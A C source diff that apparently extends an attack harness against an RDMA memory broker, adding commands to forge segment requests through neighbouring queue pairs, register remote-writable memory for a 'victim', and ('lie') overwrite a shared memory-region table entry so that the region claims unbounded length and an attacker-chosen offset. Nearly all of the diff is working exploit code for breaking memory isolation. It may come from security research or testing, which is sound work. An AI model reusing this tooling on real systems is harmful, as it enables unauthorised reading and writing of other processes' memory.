@@ -23,12 +23,16 @@
 #define RING_MAGIC "CWRING\0"
 #define IN_FLIGHT_A (512 + 384)
 #define IN_FLIGHT_B (1024 + 384)
-/* The table of memory regions: its magic, the first entry, the size of one, and in it the words of
- * the key and of the segment. */
+/* The table of memory regions: its magic, the first entry, the size of one, and words in it. */
 #define TABLE_MAGIC "CWMRTB\0"
 #define ENTRY_FIRST PAGE
 #define ENTRY_SIZE 64
+#define ENTRY_LENGTH 16
+#define ENTRY_OFFSET 24
 #define ENTRY_SEGMENT 32
+#define ENTRY_START 40
+#define ENTRY_END 48
+#define SEGMENTS_MAX (ARGS_MAX - 1)
 
 static uint32_t not_secret, not_public;
 
@@ -266,16 +270,76 @@ static int table_segments(uint64_t *segments, int max)
 	return n;
 }
 
-/* "forge QPN": asks the broker for everything that this process has read of. */
+/* The names of segments that this process has read of. */
+static void do_segments(char **args, int count)
+{
+	uint64_t segments[SEGMENTS_MAX];
+	int n = table_segments(segments, SEGMENTS_MAX);
+
+	(void)args;
+	(void)count;
+	printf("ok");
+	for (int i = 0; i < n; i++)
+		printf(" %" PRIu64, segments[i]);
+	say("%s", "");
+}
+
+/* "forge QPN SEGMENT ...": asks the broker for these segments by every QP around that one. */
 static void do_forge(char **args, int count)
 {
-	uint64_t segments[64];
-	int n = table_segments(segments, 64);
+	uint64_t segments[SEGMENTS_MAX];
 	struct forged forged = { 0 };
 
+	for (int i = 1; i < count && i <= SEGMENTS_MAX; i++)
+		segments[i - 1] = number(args[i]);
+	forge(number(args[0]), segments, count - 1, &forged);
+	say("ok %d %d %d", forged.writers, forged.readers, forged.refused);
+}
+
+static void do_hangup(char **args, int count)
+{
+	(void)args;
 	(void)count;
-	forge(number(args[0]), segments, n, &forged);
-	say("ok %d %d %d %d", n, forged.writers, forged.readers, forged.refused);
+	forge_hang_up();
+	say("ok");
+}
+
+static struct ibv_mr *offered;
+
+/* "offer PD LEN": registers memory for the victim to access. */
+static void do_offer(char **args, int count)
+{
+	size_t len = number(args[1]);
+
+	(void)count;
+	offered = ibv_reg_mr(stage_pd(args[0]), page_alloc(len), len, IBV_ACCESS_LOCAL_WRITE |
+			     IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ);
+	need(offered, "ibv_reg_mr");
+	say("ok %u %p", offered->rkey, offered->addr);
+}
+
+/* "lie OFFSET": the entry of the region offered says that it is all memory, and begins at OFFSET
+ * of the segment. */
+static void do_lie(char **args, int count)
+{
+	bool done = false;
+
+	(void)count;
+	for (int i = 0; i < view_count; i++) {
+		_Atomic uint64_t *entry;
+
+		if (memcmp(views[i].at, TABLE_MAGIC, 8) || !views[i].writable)
+			continue;
+		entry = (void *)(views[i].at + ENTRY_FIRST + (offered->rkey >> 8) * ENTRY_SIZE);
+		if ((uint32_t)entry[0] != offered->rkey)
+			fail("the region offered is not in the table");
+		atomic_store(&entry[ENTRY_LENGTH / 8], UINT64_MAX);
+		atomic_store(&entry[ENTRY_OFFSET / 8], number(args[0]));
+		atomic_store(&entry[ENTRY_START / 8], 0);
+		atomic_store(&entry[ENTRY_END / 8], UINT64_MAX);
+		done = true;
+	}
+	say(done ? "ok" : "BAD no table");
 }
 
 /* "accomplice IN OUT": a child that holds all this one does takes commands from one FIFO and
@@ -300,7 +364,8 @@ static const struct command commands[] = {
 	{ "process", 1, do_process }, { "scribble", 1, do_scribble }, { "punch", 0, do_punch },
 	{ "mangle", 1, do_mangle }, { "hammer", 1, do_hammer }, { "pretend", 1, do_pretend },
 	{ "rest", 0, do_rest }, { "stream", 5, do_stream }, { "join", 0, do_join },
-	{ "forge", 1, do_forge }, { "accomplice", 2, do_accomplice }, { 0 },
+	{ "segments", 0, do_segments }, { "forge", 1, do_forge }, { "hangup", 0, do_hangup },
+	{ "offer", 2, do_offer }, { "lie", 1, do_lie }, { "accomplice", 2, do_accomplice }, { 0 },
 };
 
 int main(int argc, char **argv)
